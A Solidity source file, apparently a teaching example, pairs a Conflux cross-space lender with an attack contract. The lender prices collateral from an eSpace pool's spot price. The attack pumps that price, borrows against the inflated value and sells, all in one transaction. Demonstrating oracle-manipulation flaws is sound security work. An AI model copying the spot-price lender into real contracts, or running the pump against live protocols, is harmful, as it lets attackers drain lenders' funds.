// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Coin, Pool} from "./Pool.sol";

interface ICrossSpaceCall {
    function callEVM(bytes20 to, bytes calldata data) external payable returns (bytes memory);
    function staticCallEVM(bytes20 to, bytes calldata data) external view returns (bytes memory);
    function withdrawFromMapped(uint256 drip) external;
}

ICrossSpaceCall constant CROSS_SPACE = ICrossSpaceCall(0x0888000000000000000000000000000000000006);

// #region lender
/// Lends CFX in Core Space, at the price that a pool in eSpace has at this moment.
contract TwoSpaceLender {
    bytes20 private immutable pool;
    Coin private immutable coin;

    constructor(bytes20 market, Coin traded) payable {
        (pool, coin) = (market, traded);
    }

    function borrow(uint256 coins) external {
        bytes memory price = CROSS_SPACE.staticCallEVM(pool, abi.encodeCall(Pool.spotPrice, ()));
        uint256 worth = (coins * abi.decode(price, (uint256))) / 1 ether;
        coin.transferFrom(msg.sender, address(this), coins);
        (bool sent, ) = msg.sender.call{value: worth / 2}("");
        require(sent, "payment failed");
    }
}
// #endregion lender

// #region attack
/// Buys in eSpace, borrows in Core Space, and sells in eSpace, in a single transaction.
contract TwoSpacePump {
    function attack(TwoSpaceLender lender, Coin coin, bytes20 pool, bytes20 espaceCoin) external payable {
        bytes memory bought = CROSS_SPACE.callEVM{value: msg.value}(pool, abi.encodeCall(Pool.buy, ()));
        uint256 coins = coin.balanceOf(address(this));
        coin.approve(address(lender), coins);
        lender.borrow(coins);
        uint256 rest = abi.decode(bought, (uint256));
        CROSS_SPACE.callEVM(espaceCoin, abi.encodeCall(ERC20.approve, (address(pool), rest)));
        bytes memory paid = CROSS_SPACE.callEVM(pool, abi.encodeCall(Pool.sell, (rest)));
        CROSS_SPACE.withdrawFromMapped(abi.decode(paid, (uint256)));
    }

    receive() external payable {}
}
// #endregion attack
